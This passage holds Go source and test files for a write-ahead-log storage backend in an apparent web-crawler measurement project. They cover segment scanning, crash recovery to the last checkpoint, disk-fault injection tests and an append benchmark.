	if st.Committed+st.Lost != st.Appended {
		t.Fatalf("records unaccounted: %d committed + %d lost != %d appended", st.Committed, st.Lost, st.Appended)
	}
	recs, stats, err := Scan(fs)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != st.Committed {
		t.Fatalf("recovered %d records but writer committed %d", len(recs), st.Committed)
	}
	// committed records must come back in order even across damaged segments
	prev := -1
	seen := map[int]bool{}
	for _, r := range recs {
		var tr testRec
		if err := json.Unmarshal(r.Data, &tr); err != nil {
			t.Fatalf("recovered record does not decode: %v", err)
		}
		if tr.N <= prev || seen[tr.N] {
			t.Fatalf("recovered stream reorders or duplicates record %d", tr.N)
		}
		seen[tr.N] = true
		prev = tr.N
	}
	if stats.Records != len(recs) {
		t.Fatalf("scan stats count %d records but returned %d", stats.Records, len(recs))
	}
}

// TestFsyncFailureKeepsData: a failed fsync is an error and a counter, never
// a rollback.
func TestFsyncFailureKeepsData(t *testing.T) {
	inj := faults.NewDiskInjector(3, faults.DiskProfile{FsyncFailPerMille: 1000})
	fs := NewMemFS()
	w, err := NewWriter(fs, Options{Sync: SyncAlways, Disk: inj})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 10; i++ {
		if err := w.Append("test", testRec{N: i}); err == nil {
			t.Fatal("every fsync fails; Append under SyncAlways must surface that")
		}
	}
	if w.Stats().SyncErrors != 10 {
		t.Fatalf("got %d sync errors, want 10", w.Stats().SyncErrors)
	}
	if got := len(scanKinds(t, fs)); got != 10 {
		t.Fatalf("fsync failure unwrote data: %d/10 records recovered", got)
	}
}
