package wal

import (
	"testing"
	"testing/quick"
)

// TestTruncationProperty is the recovery contract as a property: for any
// record stream and any byte-level truncation point, Scan returns exactly the
// records wholly before the cut — the longest intact prefix — and never
// errors or panics. Truncation models a kill mid-write: the tail of one
// segment vanishes and everything after it is gone.
func TestTruncationProperty(t *testing.T) {
	prop := func(payloads []string, cutSeed uint16) bool {
		fs := NewMemFS()
		w, err := NewWriter(fs, Options{SegmentBytes: 200, Sync: SyncOff})
		if err != nil {
			return false
		}
		for _, p := range payloads {
			if len(p) > 300 {
				p = p[:300]
			}
			if err := w.Append("q", testRec{S: p}); err != nil {
				return false
			}
		}
		if err := w.Close(); err != nil {
			return false
		}
		full, _, err := Scan(fs)
		if err != nil || len(full) != len(payloads) {
			return false
		}

		// choose a cut point anywhere in the log's total byte stream
		names, _ := fs.List()
		var segs []string
		var sizes []int64
		var total int64
		for _, n := range names {
			if _, ok := segIndexOf(n); !ok {
				continue
			}
			segs = append(segs, n)
			sizes = append(sizes, fs.Size(n))
			total += fs.Size(n)
		}
		cut := int64(cutSeed) % (total + 1)

		// apply it: truncate the segment containing the cut, drop the rest
		var cum int64
		cutSeg, cutOff := -1, int64(0)
		for i, n := range segs {
			if cutSeg >= 0 {
				if err := fs.Remove(n); err != nil {
					return false
				}
				continue
			}
			if cut <= cum+sizes[i] {
				cutSeg, cutOff = i, cut-cum
				if err := fs.Truncate(n, cutOff); err != nil {
					return false
				}
			}
			cum += sizes[i]
		}

		want := 0
		for _, r := range full {
			idx, _ := segIndexOf(segs[cutSeg])
			if r.seg < idx || (r.seg == idx && r.end <= cutOff) {
				want++
			}
		}
		got, _, err := Scan(fs)
		if err != nil {
			return false
		}
		if len(got) != want {
			t.Logf("cut %d/%d bytes: recovered %d records, want prefix of %d", cut, total, len(got), want)
			return false
		}
		// and it is the prefix, not some subset
		for i := range got {
			if got[i].Kind != full[i].Kind || string(got[i].Data) != string(full[i].Data) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// TestScanToleratesGarbage feeds arbitrary bytes as a segment and requires a
// clean, error-free scan result (zero trust in file contents).
func TestScanToleratesGarbage(t *testing.T) {
	prop := func(junk []byte) bool {
		fs := NewMemFS()
		f, _ := fs.Create(SegName(0))
		if _, err := f.Write(junk); err != nil {
			return false
		}
		recs, _, err := Scan(fs)
		if err != nil {
			return false
		}
		// only a valid header followed by valid frames can yield records
		if len(junk) < headerSize && len(recs) != 0 {
			return false
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}
