package wal_test

import (
	"testing"

	"gullible/internal/faults"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/wal"
	"gullible/internal/websim"
)

func testConfig(world *websim.World) openwpm.CrawlConfig {
	return openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport: world, ClientID: "wal-test",
		DwellSeconds: 5,
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
		HTTPFilterJSOnly: true, HoneyProps: 2, MaxSubpages: 1,
	}
}

func shardMeta(sites []string) wal.ShardMeta {
	return wal.ShardMeta{Index: 0, Start: 0, Workers: 1, Sites: sites}
}

// TestCrossBackendEquivalence is the acceptance criterion that "memory" and
// "wal" are interchangeable: the same crawl through MemBackend and through
// the WAL backend yields identical Storage.Digest() values, and the WAL
// backend's own incremental digest equals both.
func TestCrossBackendEquivalence(t *testing.T) {
	const sites = 8
	run := func(be openwpm.Backend) *openwpm.TaskManager {
		world := websim.New(websim.Options{Seed: 21, NumSites: sites})
		cfg := testConfig(world)
		cfg.Backend = be
		tm := openwpm.NewTaskManager(cfg)
		tm.Crawl(websim.Tranco(sites))
		return tm
	}

	mem := run(openwpm.MemBackend{})
	fs := wal.NewMemFS()
	be, err := wal.Open(fs, shardMeta(websim.Tranco(sites)), wal.Options{})
	if err != nil {
		t.Fatal(err)
	}
	durable := run(be)
	if err := be.Close(); err != nil {
		t.Fatal(err)
	}

	memDigest := mem.Storage.Digest()
	if d := durable.Storage.Digest(); d != memDigest {
		t.Fatalf("storage digest differs across backends: memory %s, wal %s", memDigest, d)
	}
	if d := be.Digest(); d != memDigest {
		t.Fatalf("WAL incremental digest %s differs from Storage.Digest() %s", d, memDigest)
	}
	if n := len(durable.Storage.BackendErrors); n != 0 {
		t.Fatalf("fault-free crawl recorded %d backend errors", n)
	}
}

// TestRecoverShardRebuildsStorage crawls with per-site checkpoints, abandons
// the writer mid-log (process kill), and requires RecoverShard to rebuild
// storage whose digest matches the WAL's own digest over the recovered
// stream, with the in-flight tail discarded.
func TestRecoverShardRebuildsStorage(t *testing.T) {
	const sites = 6
	urls := websim.Tranco(sites)
	world := websim.New(websim.Options{Seed: 33, NumSites: sites})
	fs := wal.NewMemFS()
	be, err := wal.Open(fs, shardMeta(urls), wal.Options{})
	if err != nil {
		t.Fatal(err)
	}
	cfg := testConfig(world)
	cfg.Backend = be
	tm := openwpm.NewTaskManager(cfg)
	cp := &openwpm.Checkpoint{}
	tm.CrawlFromHooked(urls, cp, openwpm.CrawlHooks{
		OnSite: func(o openwpm.SiteOutcome) {
			if err := be.AppendCheckpoint(o, nil, nil); err != nil {
				t.Fatalf("checkpoint: %v", err)
			}
		},
	})
	// kill: no Flush, no Close — the writer's buffer dies with the process
	rec, err := wal.RecoverShard(fs, wal.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rec.Done() != sites {
		t.Fatalf("recovered %d/%d site outcomes", rec.Done(), sites)
	}
	if rec.Meta.Index != 0 || len(rec.Meta.Sites) != sites {
		t.Fatalf("shard metadata did not survive: %+v", rec.Meta)
	}
	if a, b := rec.Storage.Digest(), rec.Backend.Digest(); a != b {
		t.Fatalf("recovered storage digest %s differs from replayed WAL digest %s", a, b)
	}
	if a, b := rec.Storage.Digest(), tm.Storage.Digest(); a != b {
		t.Fatalf("recovery after final checkpoint lost records: recovered %s, live %s", a, b)
	}
}

// TestENOSPCSalvageParity fills the device mid-crawl and requires salvage
// parity in the spirit of CrawlReport.Accounted(): every appended record is
// either committed (and recoverable) or counted lost — committed + lost ==
// appended, with nothing silently vanishing and the committed prefix intact.
func TestENOSPCSalvageParity(t *testing.T) {
	const sites = 6
	urls := websim.Tranco(sites)
	world := websim.New(websim.Options{Seed: 44, NumSites: sites})
	inj := faults.NewDiskInjector(9, faults.DiskProfile{ByteBudget: 64 << 10})
	fs := wal.NewMemFS()
	be, err := wal.Open(fs, shardMeta(urls), wal.Options{Disk: inj, SegmentBytes: 8 << 10, FlushBytes: 1 << 10})
	if err != nil {
		t.Fatal(err)
	}
	cfg := testConfig(world)
	cfg.Backend = be
	tm := openwpm.NewTaskManager(cfg)
	report := tm.Crawl(urls)
	_ = be.Close()

	st := be.Stats()
	if st.Lost == 0 {
		t.Fatalf("byte budget never filled (stats %+v) — raise crawl size or lower budget", st)
	}
	if st.Committed+st.Lost != st.Appended {
		t.Fatalf("salvage parity violated: %d committed + %d lost != %d appended",
			st.Committed, st.Lost, st.Appended)
	}
	if got := inj.Counts()[faults.DiskENOSPC]; got == 0 {
		t.Fatal("injector reports no ENOSPC faults despite losses")
	}
	// the crawl itself must be unharmed: a full disk degrades durability only
	if !report.Accounted() {
		t.Fatal("crawl report no longer accounts for every site under ENOSPC")
	}
	if len(tm.Storage.BackendErrors) == 0 {
		t.Fatal("storage did not count backend append failures")
	}
	// and the committed prefix recovers clean
	recs, stats, err := wal.Scan(fs)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != st.Committed {
		t.Fatalf("recovered %d records, writer committed %d", len(recs), st.Committed)
	}
	if stats.Records != len(recs) {
		t.Fatalf("scan stats disagree with scan result: %d vs %d", stats.Records, len(recs))
	}
}
