package wal

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"strings"
)

// Rec is one recovered record: its kind, raw payload and physical position
// (segment index and end offset), so recovery can truncate the log back to
// any record boundary.
type Rec struct {
	Kind string
	Data json.RawMessage

	seg int   // segment index
	end int64 // offset just past this record's frame within its segment
}

// ScanStats describes what a scan found and what it had to give up on.
type ScanStats struct {
	// Segments is how many segment files were scanned.
	Segments int
	// Records is how many intact records were recovered.
	Records int
	// TruncatedBytes counts bytes discarded at torn tails (an interrupted
	// flush, a short write whose truncation failed, a damaged header).
	TruncatedBytes int64
	// TornSegments names the segments whose tail failed validation.
	TornSegments []string
}

// Torn reports whether the scan hit any damage.
func (s ScanStats) Torn() bool { return len(s.TornSegments) > 0 }

func (s ScanStats) String() string {
	if !s.Torn() {
		return fmt.Sprintf("wal: %d records in %d segments, clean", s.Records, s.Segments)
	}
	return fmt.Sprintf("wal: %d records in %d segments, torn tail in %s (%d bytes discarded)",
		s.Records, s.Segments, strings.Join(s.TornSegments, ","), s.TruncatedBytes)
}

// segIndexOf parses a segment file name; ok is false for foreign files.
func segIndexOf(name string) (int, bool) {
	var i int
	if _, err := fmt.Sscanf(name, "wal-%06d.seg", &i); err != nil {
		return 0, false
	}
	return i, SegName(i) == name
}

// Scan reads every segment in log order and returns the committed record
// stream. Within a segment, frames are validated (length bounds, CRC-32C,
// envelope decode) until the first damage point; the rest of that segment is
// discarded and counted, and the scan continues with the next segment — the
// writer never appends to a damaged segment again, so records beyond it are
// legitimately committed. Scan never modifies the log and never fails on
// damage: any byte stream yields its longest intact prefix per segment.
func Scan(fs FS) ([]Rec, ScanStats, error) {
	names, err := fs.List()
	if err != nil {
		return nil, ScanStats{}, fmt.Errorf("wal: list segments: %w", err)
	}
	var recs []Rec
	var stats ScanStats
	for _, name := range names {
		idx, ok := segIndexOf(name)
		if !ok {
			continue
		}
		data, err := fs.ReadFile(name)
		if err != nil {
			return nil, stats, fmt.Errorf("wal: read segment %s: %w", name, err)
		}
		stats.Segments++
		if len(data) < headerSize || string(data[:4]) != segMagic || data[4] != segVersion {
			// a segment that lost even its header committed nothing
			if len(data) > 0 {
				stats.TruncatedBytes += int64(len(data))
				stats.TornSegments = append(stats.TornSegments, name)
			}
			continue
		}
		off := int64(headerSize)
		for {
			if off == int64(len(data)) {
				break // clean end at a record boundary
			}
			if off+frameSize > int64(len(data)) {
				stats.tear(name, int64(len(data))-off)
				break
			}
			n := int64(binary.LittleEndian.Uint32(data[off : off+4]))
			sum := binary.LittleEndian.Uint32(data[off+4 : off+8])
			if off+frameSize+n > int64(len(data)) {
				stats.tear(name, int64(len(data))-off)
				break
			}
			payload := data[off+frameSize : off+frameSize+n]
			if crc32.Checksum(payload, castagnoli) != sum {
				stats.tear(name, int64(len(data))-off)
				break
			}
			var env envelope
			if err := json.Unmarshal(payload, &env); err != nil {
				stats.tear(name, int64(len(data))-off)
				break
			}
			off += frameSize + n
			recs = append(recs, Rec{Kind: env.K, Data: env.D, seg: idx, end: off})
			stats.Records++
		}
	}
	return recs, stats, nil
}

func (s *ScanStats) tear(name string, bytes int64) {
	s.TruncatedBytes += bytes
	s.TornSegments = append(s.TornSegments, name)
}

// truncateAfter physically cuts the log just past rec: rec's segment is
// truncated to rec's end offset and every later segment is removed. It
// returns the next free segment index for a continuation writer.
func truncateAfter(fs FS, rec Rec) (int, error) {
	names, err := fs.List()
	if err != nil {
		return 0, err
	}
	for _, name := range names {
		idx, ok := segIndexOf(name)
		if !ok {
			continue
		}
		switch {
		case idx == rec.seg:
			if err := fs.Truncate(name, rec.end); err != nil {
				return 0, fmt.Errorf("wal: truncate %s: %w", name, err)
			}
		case idx > rec.seg:
			if err := fs.Remove(name); err != nil {
				return 0, fmt.Errorf("wal: remove %s: %w", name, err)
			}
		}
	}
	return rec.seg + 1, nil
}

// removeAll deletes every segment (a log with nothing worth keeping).
func removeAll(fs FS) error {
	names, err := fs.List()
	if err != nil {
		return err
	}
	for _, name := range names {
		if _, ok := segIndexOf(name); !ok {
			continue
		}
		if err := fs.Remove(name); err != nil {
			return err
		}
	}
	return nil
}
