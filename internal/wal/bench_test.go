package wal_test

import (
	"fmt"
	"testing"

	"gullible/internal/openwpm"
	"gullible/internal/wal"
)

// benchRecords is the per-iteration record count: enough appends that
// per-record cost dominates setup.
const benchRecords = 2000

func benchCall(i int) openwpm.JSCall {
	return openwpm.JSCall{
		TopURL:    fmt.Sprintf("http://site-%03d.example/", i%37),
		FrameURL:  fmt.Sprintf("http://site-%03d.example/frame", i%37),
		Symbol:    "window.navigator.userAgent",
		Operation: "get",
		Value:     "Mozilla/5.0 (X11; Linux x86_64)",
		ScriptURL: fmt.Sprintf("http://cdn.example/lib-%02d.js", i%11),
		Time:      float64(i) * 0.25,
	}
}

// BenchmarkBackendAppend measures records/sec through each storage backend:
// the in-memory no-op baseline, and the WAL at each fsync policy (real files,
// real fsync — the checkpoint variant commits every 50 records the way a
// crawl checkpoints every site). scripts/bench_wal.sh renders the results
// into BENCH_wal.json.
func BenchmarkBackendAppend(b *testing.B) {
	run := func(b *testing.B, make func(b *testing.B) openwpm.Backend) {
		for i := 0; i < b.N; i++ {
			be := make(b)
			for j := 0; j < benchRecords; j++ {
				if err := be.AppendJSCall(benchCall(j)); err != nil {
					b.Fatal(err)
				}
				if j%50 == 49 {
					var o openwpm.SiteOutcome
					if err := be.AppendCheckpoint(o, nil, nil); err != nil {
						b.Fatal(err)
					}
				}
			}
			if err := be.Close(); err != nil {
				b.Fatal(err)
			}
		}
		b.ReportMetric(float64(benchRecords*b.N)/b.Elapsed().Seconds(), "recs/s")
	}

	b.Run("store=memory", func(b *testing.B) {
		run(b, func(b *testing.B) openwpm.Backend { return openwpm.MemBackend{} })
	})
	for _, sync := range []wal.SyncPolicy{wal.SyncOff, wal.SyncCheckpoint, wal.SyncAlways} {
		sync := sync
		b.Run(fmt.Sprintf("store=wal/fsync=%s", sync), func(b *testing.B) {
			run(b, func(b *testing.B) openwpm.Backend {
				be, err := wal.Open(wal.DirFS{Dir: b.TempDir()}, wal.ShardMeta{Workers: 1}, wal.Options{Sync: sync})
				if err != nil {
					b.Fatal(err)
				}
				return be
			})
		})
	}
}
