package wal

import (
	"encoding/json"
	"errors"
	"fmt"

	"gullible/internal/bundle"
	"gullible/internal/openwpm"
	"gullible/internal/telemetry"
)

// ErrNoShardMeta reports a log whose shard-metadata record did not survive:
// either the log is empty or its first record was torn. Such a shard made no
// durable progress at all (metadata is the first frame ever written), so a
// multi-shard recovery can treat it as "start this shard over" instead of
// failing the whole crawl — that is what sched.Recover does.
var ErrNoShardMeta = errors.New("wal: no shard metadata recovered")

// Record kinds. The storage kinds mirror the tables of the measurement
// database; body/bvisit carry the bundle recorder's archive stream; meta
// identifies the shard; checkpoint marks the durable site boundary.
const (
	recMeta       = "meta"
	recVisit      = "visit"
	recCrash      = "crash"
	recRequest    = "request"
	recCookie     = "cookie"
	recJSCall     = "jscall"
	recBody       = "body"   // content pool entry, written once per SHA
	recScript     = "script" // one accepted content-table write (URL -> SHA)
	recTamper     = "tamper"
	recDrop       = "drop"
	recBVisit     = "bvisit" // one bundle.Visit spooled from the recorder
	recCheckpoint = "checkpoint"
)

// ShardMeta identifies the crawl shard a log belongs to. It is the first
// record of every log, so recovery can rebuild scheduling state without any
// side channel.
type ShardMeta struct {
	Index   int               `json:"index"`
	Start   int               `json:"start"`
	Workers int               `json:"workers"`
	Sites   []string          `json:"sites"`
	Record  bool              `json:"record,omitempty"`
	Meta    map[string]string `json:"meta,omitempty"` // bundle manifest meta
}

type bodyRec struct {
	SHA     string `json:"sha"`
	Content string `json:"content"`
}

type scriptRec struct {
	URL   string `json:"url"`
	SHA   string `json:"sha"`
	CType string `json:"ctype,omitempty"`
}

type dropRec struct {
	Table string `json:"table"`
	Site  string `json:"site,omitempty"`
}

type checkRec struct {
	Outcome  openwpm.SiteOutcome `json:"outcome"`
	Recorder json.RawMessage     `json:"recorder,omitempty"`
	// Trace is the flight-recorder delta since the previous checkpoint (a
	// telemetry.FlightCheckpoint), so recovery can rebuild the span stream
	// alongside the storage tables.
	Trace json.RawMessage `json:"trace,omitempty"`
}

// Backend is the WAL-backed openwpm.Backend (and bundle.Spool) for one crawl
// shard: every accepted storage record and every spooled bundle record is
// appended to the shard's log, and an incremental DigestState shadows the
// storage digest so the durable stream can be checked against the in-memory
// one at any point. A Backend serves one shard on one goroutine, like the
// storage it backs.
type Backend struct {
	w      *Writer
	digest *openwpm.DigestState
	bodies map[string]bool // content-pool SHAs already logged
}

// Open starts a fresh shard log: a new writer whose first record is the
// shard's metadata.
func Open(fs FS, meta ShardMeta, opts Options) (*Backend, error) {
	w, err := NewWriter(fs, opts)
	if err != nil {
		return nil, err
	}
	b := &Backend{w: w, digest: openwpm.NewDigestState(), bodies: map[string]bool{}}
	if err := w.Append(recMeta, meta); err != nil {
		return nil, err
	}
	return b, nil
}

// Digest is the incremental digest over every record offered to the backend;
// fault-free it equals Storage.Digest() on the same stream at every site
// boundary.
func (b *Backend) Digest() string { return b.digest.Sum() }

// Stats exposes the underlying writer's durability accounting.
func (b *Backend) Stats() WriterStats { return b.w.Stats() }

func (b *Backend) AppendVisit(v openwpm.VisitRecord) error {
	b.digest.AddVisit(v)
	return b.w.Append(recVisit, v)
}

func (b *Backend) AppendCrash(c openwpm.CrashRecord) error {
	b.digest.AddCrash(c)
	return b.w.Append(recCrash, c)
}

func (b *Backend) AppendRequest(r openwpm.RequestRecord) error {
	b.digest.AddRequest(r)
	return b.w.Append(recRequest, r)
}

func (b *Backend) AppendCookie(c openwpm.CookieEntry) error {
	b.digest.AddCookie(c)
	return b.w.Append(recCookie, c)
}

func (b *Backend) AppendJSCall(c openwpm.JSCall) error {
	b.digest.AddJSCall(c)
	return b.w.Append(recJSCall, c)
}

// AppendScriptFile logs an accepted content write: the body goes to the
// shared content pool once per SHA, the URL→SHA association every time.
func (b *Backend) AppendScriptFile(url, sha, content, ctype string) error {
	b.digest.AddScript(url, sha, ctype)
	var err error
	if !b.bodies[sha] {
		b.bodies[sha] = true
		err = b.w.Append(recBody, bodyRec{SHA: sha, Content: content})
	}
	if e := b.w.Append(recScript, scriptRec{URL: url, SHA: sha, CType: ctype}); err == nil {
		err = e
	}
	return err
}

func (b *Backend) AppendTamper(t openwpm.TamperRecord) error {
	b.digest.AddTamper(t)
	return b.w.Append(recTamper, t)
}

func (b *Backend) AppendDrop(table, site string) error {
	b.digest.AddDrop(table)
	return b.w.Append(recDrop, dropRec{Table: table, Site: site})
}

// AppendCheckpoint writes the durable site boundary and commits it per the
// sync policy — under the default SyncCheckpoint policy this is where fsync
// happens.
func (b *Backend) AppendCheckpoint(outcome openwpm.SiteOutcome, recorder, trace []byte) error {
	if err := b.w.Append(recCheckpoint, checkRec{Outcome: outcome, Recorder: recorder, Trace: trace}); err != nil {
		return err
	}
	return b.w.Commit()
}

// SpoolBody implements bundle.Spool over the shared content pool: script
// bodies and HTTP response bodies dedup against each other, exactly like the
// recorder's own pool.
func (b *Backend) SpoolBody(sha, content string) error {
	if b.bodies[sha] {
		return nil
	}
	b.bodies[sha] = true
	return b.w.Append(recBody, bodyRec{SHA: sha, Content: content})
}

// SpoolVisit implements bundle.Spool: one closed bundle visit with all its
// per-visit buffers.
func (b *Backend) SpoolVisit(v bundle.Visit) error {
	return b.w.Append(recBVisit, v)
}

// Flush commits buffered appends per the sync policy.
func (b *Backend) Flush() error { return b.w.Commit() }

// Close commits and closes the shard log.
func (b *Backend) Close() error { return b.w.Close() }

// RecoverStats describes a shard recovery.
type RecoverStats struct {
	Scan RecoverScan `json:"scan"`
	// Applied is how many recovered records were replayed into state.
	Applied int `json:"applied"`
	// Discarded is how many intact records after the last checkpoint were
	// thrown away (they belong to the in-flight site, which is re-crawled).
	Discarded int `json:"discarded"`
	// Unresolved counts script references whose pooled body was lost to a
	// disk fault; the reference is dropped and counted rather than trusted.
	Unresolved int `json:"unresolved,omitempty"`
}

// RecoverScan is the scan-level accounting embedded in RecoverStats.
type RecoverScan struct {
	Segments       int      `json:"segments"`
	Records        int      `json:"records"`
	TruncatedBytes int64    `json:"truncatedBytes,omitempty"`
	TornSegments   []string `json:"tornSegments,omitempty"`
}

// ShardRecovery is the rebuilt durable state of one crawl shard: everything
// committed up to the last checkpoint, plus a continuation Backend whose
// digest state already reflects the replayed records.
type ShardRecovery struct {
	Meta    ShardMeta
	Storage *openwpm.Storage
	// MetaLost marks a shard whose log lost even its metadata record
	// (ErrNoShardMeta): no durable progress survived, the log was reset, and
	// the shard restarts from site zero. Only multi-shard recovery
	// (sched.Recover) synthesises these — everything below Meta is zero and
	// Backend is nil; the resumed crawl's backend factory opens a fresh log.
	MetaLost bool
	// Outcomes are the per-site outcomes in crawl order; len(Outcomes) is
	// the shard's resume position.
	Outcomes []openwpm.SiteOutcome
	// RecorderVisits / Bodies / RecorderState rebuild the bundle recorder
	// when the crawl was recorded.
	RecorderVisits []bundle.Visit
	Bodies         map[string]string
	RecorderState  []byte
	// TraceEvents / TraceNextID / TraceCrawlSpan rebuild the shard's flight
	// recorder when the crawl ran with telemetry: the concatenated
	// checkpoint deltas, the span-id cursor at the last checkpoint, and the
	// crawl span the interrupted run left open (0 when telemetry was off —
	// a real id sequence always has NextID > 1 once the crawl span begins).
	TraceEvents    []telemetry.SpanEvent
	TraceNextID    int64
	TraceCrawlSpan int64
	Stats          RecoverStats
	// Backend continues the log at a fresh segment; its digest state equals
	// Storage.Digest() over the recovered records.
	Backend *Backend
}

// Done is the number of sites the recovered shard has completed.
func (r *ShardRecovery) Done() int { return len(r.Outcomes) }

// RecoverShard rebuilds a shard from its log: scan the committed record
// stream, truncate back to the last checkpoint (physically — the discarded
// tail belongs to the site that was in flight when the process died), replay
// the surviving records into storage/digest/recorder state, and open a
// continuation writer on a fresh segment. The in-flight site is simply
// re-crawled by the resumed scheduler; determinism makes the merged result
// byte-identical to an uninterrupted run.
func RecoverShard(fs FS, opts Options) (*ShardRecovery, error) {
	recs, sstats, err := Scan(fs)
	if err != nil {
		return nil, err
	}
	tel := opts.Telemetry
	tel.Gauge("wal_recovery_truncated_bytes").Add(sstats.TruncatedBytes)

	if len(recs) == 0 || recs[0].Kind != recMeta {
		return nil, fmt.Errorf("%w (%s)", ErrNoShardMeta, sstats)
	}
	var meta ShardMeta
	if err := json.Unmarshal(recs[0].Data, &meta); err != nil {
		return nil, fmt.Errorf("wal: shard metadata: %w", err)
	}

	// keep everything up to and including the last checkpoint; with no
	// checkpoint yet, only the meta record survives
	keep := 0
	for i, r := range recs {
		if r.Kind == recCheckpoint {
			keep = i
		}
	}
	nextSeg, err := truncateAfter(fs, recs[keep])
	if err != nil {
		return nil, err
	}

	out := &ShardRecovery{
		Meta:    meta,
		Storage: openwpm.NewStorage(),
		Bodies:  map[string]string{},
		Stats: RecoverStats{
			Scan: RecoverScan{
				Segments:       sstats.Segments,
				Records:        sstats.Records,
				TruncatedBytes: sstats.TruncatedBytes,
				TornSegments:   sstats.TornSegments,
			},
			Discarded: len(recs) - keep - 1,
		},
	}
	w, err := newWriterAt(fs, opts, nextSeg)
	if err != nil {
		return nil, err
	}
	out.Backend = &Backend{w: w, digest: openwpm.NewDigestState(), bodies: map[string]bool{}}

	for _, r := range recs[1 : keep+1] {
		if err := out.apply(r); err != nil {
			return nil, err
		}
		out.Stats.Applied++
	}
	for sha := range out.Bodies {
		out.Backend.bodies[sha] = true
	}
	if tel.Enabled() {
		tel.Event(telemetry.LevelInfo, "wal-recovery", 0,
			telemetry.L("shard", fmt.Sprintf("%d", meta.Index)),
			telemetry.L("records", fmt.Sprintf("%d", out.Stats.Applied)),
			telemetry.L("discarded", fmt.Sprintf("%d", out.Stats.Discarded)),
			telemetry.L("truncated_bytes", fmt.Sprintf("%d", sstats.TruncatedBytes)),
			telemetry.L("sites_done", fmt.Sprintf("%d", out.Done())))
	}
	return out, nil
}

// apply replays one committed record into the recovered state. Records were
// sanitised and fault-filtered before they were appended, so replay writes
// tables directly — re-running Storage's Add methods would sanitise twice.
func (out *ShardRecovery) apply(r Rec) error {
	s := out.Storage
	d := out.Backend.digest
	switch r.Kind {
	case recVisit:
		var v openwpm.VisitRecord
		if err := json.Unmarshal(r.Data, &v); err != nil {
			return fmt.Errorf("wal: replay visit: %w", err)
		}
		s.Visits = append(s.Visits, v)
		d.AddVisit(v)
	case recCrash:
		var c openwpm.CrashRecord
		if err := json.Unmarshal(r.Data, &c); err != nil {
			return fmt.Errorf("wal: replay crash: %w", err)
		}
		s.Crashes = append(s.Crashes, c)
		d.AddCrash(c)
	case recRequest:
		var q openwpm.RequestRecord
		if err := json.Unmarshal(r.Data, &q); err != nil {
			return fmt.Errorf("wal: replay request: %w", err)
		}
		s.Requests = append(s.Requests, q)
		d.AddRequest(q)
	case recCookie:
		var c openwpm.CookieEntry
		if err := json.Unmarshal(r.Data, &c); err != nil {
			return fmt.Errorf("wal: replay cookie: %w", err)
		}
		s.Cookies = append(s.Cookies, c)
		d.AddCookie(c)
	case recJSCall:
		var c openwpm.JSCall
		if err := json.Unmarshal(r.Data, &c); err != nil {
			return fmt.Errorf("wal: replay jscall: %w", err)
		}
		s.JSCalls = append(s.JSCalls, c)
		d.AddJSCall(c)
	case recBody:
		var b bodyRec
		if err := json.Unmarshal(r.Data, &b); err != nil {
			return fmt.Errorf("wal: replay body: %w", err)
		}
		out.Bodies[b.SHA] = b.Content
	case recScript:
		var sc scriptRec
		if err := json.Unmarshal(r.Data, &sc); err != nil {
			return fmt.Errorf("wal: replay script: %w", err)
		}
		f, ok := s.ScriptFiles[sc.SHA]
		if !ok {
			content, have := out.Bodies[sc.SHA]
			if !have {
				// the pooled body was lost to a disk fault before this
				// reference committed; count it rather than invent content
				out.Stats.Unresolved++
				return nil
			}
			s.ScriptFiles[sc.SHA] = openwpm.ScriptFile{
				URL: sc.URL, SHA256: sc.SHA, Content: content,
				CType: sc.CType, URLs: []string{sc.URL},
			}
			d.AddScript(sc.URL, sc.SHA, sc.CType)
			return nil
		}
		for _, u := range f.URLs {
			if u == sc.URL {
				return nil
			}
		}
		f.URLs = append(f.URLs, sc.URL)
		s.ScriptFiles[sc.SHA] = f
		d.AddScript(sc.URL, sc.SHA, sc.CType)
	case recTamper:
		var t openwpm.TamperRecord
		if err := json.Unmarshal(r.Data, &t); err != nil {
			return fmt.Errorf("wal: replay tamper: %w", err)
		}
		s.Tampers = append(s.Tampers, t)
		d.AddTamper(t)
	case recDrop:
		var dr dropRec
		if err := json.Unmarshal(r.Data, &dr); err != nil {
			return fmt.Errorf("wal: replay drop: %w", err)
		}
		s.Dropped[dr.Table]++
		d.AddDrop(dr.Table)
	case recBVisit:
		var v bundle.Visit
		if err := json.Unmarshal(r.Data, &v); err != nil {
			return fmt.Errorf("wal: replay bundle visit: %w", err)
		}
		out.RecorderVisits = append(out.RecorderVisits, v)
	case recCheckpoint:
		var c checkRec
		if err := json.Unmarshal(r.Data, &c); err != nil {
			return fmt.Errorf("wal: replay checkpoint: %w", err)
		}
		out.Outcomes = append(out.Outcomes, c.Outcome)
		out.RecorderState = c.Recorder
		if len(c.Trace) > 0 {
			var fc telemetry.FlightCheckpoint
			if err := json.Unmarshal(c.Trace, &fc); err != nil {
				return fmt.Errorf("wal: replay trace checkpoint: %w", err)
			}
			out.TraceEvents = append(out.TraceEvents, fc.Events...)
			out.TraceNextID = fc.NextID
			out.TraceCrawlSpan = fc.Crawl
		}
	default:
		return fmt.Errorf("wal: unknown record kind %q", r.Kind)
	}
	return nil
}
