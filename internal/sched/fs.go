package sched

import (
	"fmt"
	"os"
	"path/filepath"

	"gullible/internal/wal"
)

// ShardDirName is the on-disk name of shard i's WAL directory. Every durable
// crawl consumer (wpmscan, wpmd) lays shards out the same way so each can
// recover the other's logs.
func ShardDirName(i int) string { return fmt.Sprintf("shard-%03d", i) }

// ShardDirFS returns a Crawl.Backend-compatible per-shard filesystem factory:
// shard i logs under dir/shard-00i. Directories are created lazily on first
// write (wal.DirFS semantics).
func ShardDirFS(dir string) func(Shard) wal.FS {
	return func(sh Shard) wal.FS {
		return wal.DirFS{Dir: filepath.Join(dir, ShardDirName(sh.Index))}
	}
}

// ListShardFSs lists the existing per-shard WAL directories under dir in
